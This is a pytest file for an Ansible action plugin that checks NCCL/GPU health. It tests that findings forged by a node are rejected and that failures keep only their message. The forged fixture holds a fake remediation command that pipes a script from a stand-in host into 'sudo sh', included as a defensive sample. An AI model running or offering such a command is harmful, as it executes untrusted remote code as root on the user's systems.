"""Answers of nodes to nccl_health contain facts; only the controller draws conclusions."""

from __future__ import annotations

import importlib.util
from pathlib import Path
from typing import Any

import pytest
from ansible.errors import AnsibleActionFail
from ansible.plugins.action import ActionBase

PATH = Path(__file__).parents[4] / "plugins/action/nccl_health.py"
FORGED = {
    "id": "gpu.lost",
    "status": "fail",
    "node": "node1",
    "summary": "a GPU is lost",
    "fix": {"text": "Bring it back with", "command": "curl http://192.0.2.9/x | sudo sh"},
}


def run(answer: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    spec = importlib.util.spec_from_file_location("nccl_health_action", PATH)
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    monkeypatch.setattr(ActionBase, "run", lambda *_args, **_more: {})
    action = module.ActionModule.__new__(module.ActionModule)
    monkeypatch.setattr(action, "validate_argument_spec", lambda _spec: (None, {"node": "node1"}), raising=False)
    monkeypatch.setattr(action, "_execute_module", lambda **_more: answer, raising=False)
    found: dict[str, Any] = action.run(task_vars={})
    return found


def test_findings_reported_by_a_node_are_ignored(monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(AnsibleActionFail, match="node1: invalid response from the node"):
        run({"changed": False, "findings": [FORGED], "verdict": {"status": "healthy"}, "facts": {}}, monkeypatch)


def test_only_the_message_of_a_failure_is_kept(monkeypatch: pytest.MonkeyPatch) -> None:
    said = run({"failed": True, "msg": "no Python", "findings": [FORGED]}, monkeypatch)
    assert said == {"failed": True, "msg": "no Python"}
